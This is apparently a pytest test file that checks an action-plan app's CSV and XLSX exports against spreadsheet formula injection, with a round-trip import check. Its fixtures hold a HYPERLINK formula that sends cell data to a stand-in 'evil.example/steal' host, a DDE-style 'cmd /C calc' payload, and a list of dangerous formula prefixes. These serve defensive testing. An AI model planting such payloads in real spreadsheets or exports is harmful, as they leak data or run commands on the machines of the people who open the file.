"""Text that a spreadsheet would run never reaches one as a formula (issue 11, item 2).

Action plans are exported to CSV and XLSX and opened in Excel by the lead, the sponsor and the
reviewers. Every text column here holds a formula; in CSV each gets a leading quote, in XLSX each
is a string cell, and both files import back as the same plan.
"""

import csv
import io
from datetime import date

import pytest

from actionplans import exports, services
from actionplans.enums import Status
from actionplans.models import ActionPlan
from techcommit.spreadsheets import csv_escape, csv_unescape
from tests.actionplans.test_transfer import import_into, snapshot, upload

LINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# Forms and imports strip leading spaces and tabs, so a tab or carriage return starts no stored
# text; csv_escape's own test covers them.
FORMULAS = [LINK, SUM, "+44 1234 567890", "-1+2", "'=already quoted"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_plan(plan, heading, lead_of_org_a):
    """The plan with a formula in the title, a heading, a phase, the key, a status word and
    every text column of an action."""
    ActionPlan.objects.filter(pk=plan.pk).update(title=LINK)
    plan.phases.filter(name="Phase 3").update(name="=Phase 3")
    services.add_owner_code(plan, "EV", SUM)
    services.set_wording(plan, Status.GREEN, "=On track")
    services.add_heading(plan, SUM)
    for number, formula in enumerate(FORMULAS):
        services.add_action(
            heading(SUM) if number % 2 else heading("visibility"),
            by=lead_of_org_a,
            title=formula,
            led_by="EV",
            success_criteria=formula,
            description=formula,
            comment=formula,
            status=Status.GREEN,
        )
    plan.refresh_from_db()
    return plan


def test_no_cell_of_the_csv_export_starts_a_formula(hostile_plan):
    _name, _type, content = exports.PlanCsvExporter().render(hostile_plan)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []
    assert rows[0] == ["'" + LINK]
    action = next(row for row in rows[1:] if row[:1] == ["'" + LINK])
    assert action[-4:] == ["'" + LINK, "'=On track", "'" + LINK, "'" + LINK]
    assert next(row[:2] for row in rows if row[:1] == ["EV"]) == ["EV", "'" + SUM]
    assert "''=already quoted" in cells


def test_every_text_cell_of_the_xlsx_export_is_a_string_cell(hostile_plan):
    from openpyxl import load_workbook

    _name, _type, content = exports.PlanXlsxExporter().render(hostile_plan)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert sheet["A1"].value == LINK
    assert {cell.value for cell in cells} >= {SUM, "=On track", "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.mark.parametrize("exporter", [exports.PlanCsvExporter, exports.PlanXlsxExporter])
def test_formula_like_text_imports_back_as_it_was(exporter, hostile_plan, org_b, lead_of_org_b):
    filename, _type, content = exporter().render(hostile_plan)
    copy = services.create_plan(
        org_b, by=lead_of_org_b, starts_on=date(2026, 12, 1), horizon_months=24
    )

    import_into(copy, upload(filename, content), lead_of_org_b)

    assert snapshot(copy) == snapshot(hostile_plan)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),
        ("'quoted'", "'quoted'"),
        ("Plain text - with a dash", "Plain text - with a dash"),
        ("", ""),
    ],
)
def test_csv_cells_that_would_run_get_a_quote_that_reading_removes(text, written):
    assert csv_escape(text) == written
    assert csv_unescape(written) == text
